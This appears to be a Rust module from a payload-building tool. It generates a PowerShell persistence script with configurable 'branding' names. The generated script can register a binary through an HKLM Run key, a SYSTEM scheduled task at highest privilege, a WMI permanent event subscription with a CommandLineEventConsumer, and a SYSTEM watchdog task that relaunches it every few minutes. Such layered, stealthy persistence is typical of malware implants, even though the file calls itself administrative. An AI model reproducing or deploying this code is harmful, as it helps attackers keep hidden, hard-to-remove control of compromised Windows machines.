//! Persistence script generation
//!
//! Emits `persistence.ps1`, a parameterized administrative script with four
//! independently gated mechanism blocks. A block is present only when its
//! profile flag is set; a profile with every mechanism disabled still yields
//! a valid parameterized header.

use super::ps::{quote, PsParam, PsScript, PsStatement};
use super::Artifact;
use crate::config::{BrandingProfile, PersistenceProfile};

pub const FILE_NAME: &str = "persistence.ps1";

const RUN_KEY_PATH: &str = r"HKLM:Software\Microsoft\Windows\CurrentVersion\Run";
const WMI_NAMESPACE: &str = r"root\subscription";
const WMI_QUERY: &str = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_ComputerShutdownEvent'";

pub fn generate(branding: &BrandingProfile, persistence: &PersistenceProfile) -> Artifact {
    let service_name = branding.service_file();

    let mut script = PsScript::new()
        .with_header("Requires administrative privileges.")
        .param(PsParam::string("InstallRoot", Some(branding.install_directory())))
        .param(PsParam::string("BinaryName", Some(branding.binary())));

    script.push(PsStatement::Assign {
        variable: "BinaryPath".to_string(),
        expression: "Join-Path $InstallRoot $BinaryName".to_string(),
    });
    script.push(PsStatement::Command(
        "Write-Host \"[persistence] Using binary $BinaryPath\"".to_string(),
    ));

    if persistence.run_key {
        script.push(PsStatement::Blank);
        script.extend(run_key_block(service_name));
    }

    if persistence.scheduled_task.enabled {
        script.push(PsStatement::Blank);
        script.extend(scheduled_task_block(branding, persistence));
    }

    if persistence.wmi.enabled {
        script.push(PsStatement::Blank);
        script.extend(wmi_block(service_name));
    }

    if persistence.watchdog.enabled {
        script.push(PsStatement::Blank);
        script.extend(watchdog_block(service_name, persistence));
    }

    Artifact::new(FILE_NAME, script.render())
}

fn run_key_block(service_name: &str) -> Vec<PsStatement> {
    vec![
        PsStatement::Command("Write-Host \"[persistence] configuring Run key\"".to_string()),
        PsStatement::Command(format!(
            "New-Item -Path {} -Force | Out-Null",
            quote(RUN_KEY_PATH)
        )),
        PsStatement::Command(format!(
            "New-ItemProperty -Path {} -Name {} -Value ('\"' + $BinaryPath + '\" --service') -PropertyType String -Force | Out-Null",
            quote(RUN_KEY_PATH),
            quote(service_name)
        )),
    ]
}

fn scheduled_task_block(
    branding: &BrandingProfile,
    persistence: &PersistenceProfile,
) -> Vec<PsStatement> {
    let task = &persistence.scheduled_task;
    let task_name = task.name.as_deref().unwrap_or_else(|| branding.service_file());

    vec![
        PsStatement::Command("Write-Host \"[persistence] configuring scheduled task\"".to_string()),
        PsStatement::Assign {
            variable: "taskName".to_string(),
            expression: quote(task_name),
        },
        PsStatement::Assign {
            variable: "trigger".to_string(),
            expression: quote(task.trigger_or_default()),
        },
        PsStatement::Command(
            "schtasks /Create /TN $taskName /TR ('\"' + $BinaryPath + '\" --service') /SC $trigger /RL HIGHEST /RU SYSTEM /F | Out-Null"
                .to_string(),
        ),
    ]
}

fn wmi_block(service_name: &str) -> Vec<PsStatement> {
    vec![
        PsStatement::Command(
            "Write-Host \"[persistence] configuring WMI event subscription\"".to_string(),
        ),
        PsStatement::Assign {
            variable: "filterName".to_string(),
            expression: quote(&format!("{}_Filter", service_name)),
        },
        PsStatement::Assign {
            variable: "consumerName".to_string(),
            expression: quote(&format!("{}_Consumer", service_name)),
        },
        PsStatement::Assign {
            variable: "query".to_string(),
            expression: quote(WMI_QUERY),
        },
        PsStatement::Assign {
            variable: "commandLine".to_string(),
            expression: "'\"' + $BinaryPath + '\" --service'".to_string(),
        },
        PsStatement::Assign {
            variable: "namespace".to_string(),
            expression: quote(WMI_NAMESPACE),
        },
        PsStatement::Blank,
        PsStatement::Assign {
            variable: "existingFilter".to_string(),
            expression: "Get-WmiObject __EventFilter -Namespace $namespace -Filter \"Name='$filterName'\" -ErrorAction SilentlyContinue".to_string(),
        },
        PsStatement::IfElse {
            condition: "$null -eq $existingFilter".to_string(),
            then_body: vec![PsStatement::Assign {
                variable: "filter".to_string(),
                expression: "Set-WmiInstance -Class __EventFilter -Namespace $namespace -Arguments @{Name=$filterName; Query=$query; QueryLanguage='WQL'; EventNamespace='root\\cimv2'}".to_string(),
            }],
            else_body: vec![PsStatement::Assign {
                variable: "filter".to_string(),
                expression: "$existingFilter".to_string(),
            }],
        },
        PsStatement::Blank,
        PsStatement::Assign {
            variable: "existingConsumer".to_string(),
            expression: "Get-WmiObject CommandLineEventConsumer -Namespace $namespace -Filter \"Name='$consumerName'\" -ErrorAction SilentlyContinue".to_string(),
        },
        PsStatement::IfElse {
            condition: "$null -eq $existingConsumer".to_string(),
            then_body: vec![PsStatement::Assign {
                variable: "consumer".to_string(),
                expression: "Set-WmiInstance -Namespace $namespace -Class CommandLineEventConsumer -Arguments @{Name=$consumerName; CommandLineTemplate=$commandLine}".to_string(),
            }],
            else_body: vec![PsStatement::Assign {
                variable: "consumer".to_string(),
                expression: "$existingConsumer".to_string(),
            }],
        },
        PsStatement::Blank,
        PsStatement::Command(
            "Set-WmiInstance -Namespace $namespace -Class __FilterToConsumerBinding -Arguments @{Filter=$filter; Consumer=$consumer} | Out-Null".to_string(),
        ),
    ]
}

fn watchdog_block(service_name: &str, persistence: &PersistenceProfile) -> Vec<PsStatement> {
    vec![
        PsStatement::Command("Write-Host \"[persistence] configuring watchdog task\"".to_string()),
        PsStatement::Assign {
            variable: "watchdogTask".to_string(),
            expression: quote(&format!("{}_Watchdog", service_name)),
        },
        PsStatement::Assign {
            variable: "intervalMinutes".to_string(),
            expression: persistence.watchdog.interval_minutes().to_string(),
        },
        PsStatement::Command(
            "schtasks /Create /TN $watchdogTask /TR ('\"' + $BinaryPath + '\" --watchdog') /SC MINUTE /MO $intervalMinutes /RL HIGHEST /RU SYSTEM /F | Out-Null"
                .to_string(),
        ),
    ]
}
